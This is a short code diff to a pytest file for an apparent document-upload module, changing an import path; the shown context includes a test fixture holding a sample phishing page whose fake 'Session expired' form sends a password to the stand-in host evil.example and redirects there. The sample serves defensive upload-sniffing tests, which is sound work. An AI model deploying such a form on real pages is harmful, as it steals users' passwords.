@@ -5,7 +5,7 @@ import io
 
 import pytest
 
-from dms.uploads import safe_filename, sniff
+from dms.documents.uploads import safe_filename, sniff
 
 PHISH = (b"<div><h1>Session expired</h1><form action='https://evil.example/'><input name=password></form>"
          b"<meta http-equiv='refresh' content='0;url=https://evil.example/'></div>")
